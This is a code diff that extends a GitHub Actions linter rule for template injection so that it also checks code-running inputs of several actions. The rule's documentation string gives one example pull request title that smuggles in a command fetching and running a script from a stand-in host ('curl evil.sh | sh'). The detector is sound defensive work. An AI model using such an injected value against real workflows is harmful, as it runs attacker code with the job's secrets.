@@ -1,4 +1,5 @@
 import { defineFileRule } from "../../../rule.ts";
+import { CODE_INPUT_ACTIONS } from "../data/action-catalogue.ts";
 import { usesAction, type WorkflowModel, withValue, type YamlScalar } from "../model.ts";
 import { expressionSource, type StepScope, stepScopes } from "../taint.ts";
 
@@ -14,7 +15,7 @@ export const templateInjection = defineFileRule<WorkflowModel>({
   docs: {
     summary:
       // biome-ignore lint/suspicious/noTemplateCurlyInString: GitHub Actions ${{ }} expression syntax, not a JS template
-      "A `run:` script (of a workflow or a composite action) or an `actions/github-script` `script:` contains `${{ … }}` that expands text an outsider writes: issue, pull request, comment and review titles and bodies, branch names (`github.head_ref`), commit messages, label and wiki page names; directly, through `${{ env.X }}` of a variable set from such a field, or through `${{ steps.<id>.outputs.<name> }}` of an earlier step that wrote such a value to `$GITHUB_OUTPUT` or of an action whose outputs carry a pull request's file or branch names (tj-actions/changed-files, tj-actions/branch-names, dorny/paths-filter).",
+      "A `run:` script (of a workflow or a composite action) or an input that an action runs as code (`actions/github-script` `script:`, `azure/cli` `inlineScript:`, `mikefarah/yq` `cmd:` and the other actions of `CODE_INPUT_ACTIONS`) contains `${{ … }}` that expands text an outsider writes: issue, pull request, comment and review titles and bodies, branch names (`github.head_ref`), commit messages, label and wiki page names; directly, through `${{ env.X }}` of a variable set from such a field, or through `${{ steps.<id>.outputs.<name> }}` of an earlier step that wrote such a value to `$GITHUB_OUTPUT` or of an action whose outputs carry a pull request's file or branch names (tj-actions/changed-files, tj-actions/branch-names, dorny/paths-filter).",
     whyItMatters:
       "GitHub pastes the expression into the script before the shell runs it. A pull request titled `\"; curl evil.sh | sh; #` runs the attacker's commands with the job's token and secrets.",
     remediation:
@@ -41,9 +42,12 @@ export const templateInjection = defineFileRule<WorkflowModel>({
     };
     for (const { step, scope } of stepScopes(ctx.model)) {
       if (step.run) inspect(step.run, "a run script", scope);
-      if (usesAction(step, "actions/github-script")) {
-        const script = withValue(step, "script");
-        if (script) inspect(script, "a github-script script", scope);
+      const runner = CODE_INPUT_ACTIONS.find((action) => usesAction(step, action.repository));
+      if (!runner) continue;
+      for (const input of runner.inputs) {
+        const code = withValue(step, input);
+        if (code)
+          inspect(code, `the ${input} input of ${runner.repository}, which runs it as ${runner.runs}`, scope);
       }
     }
   },
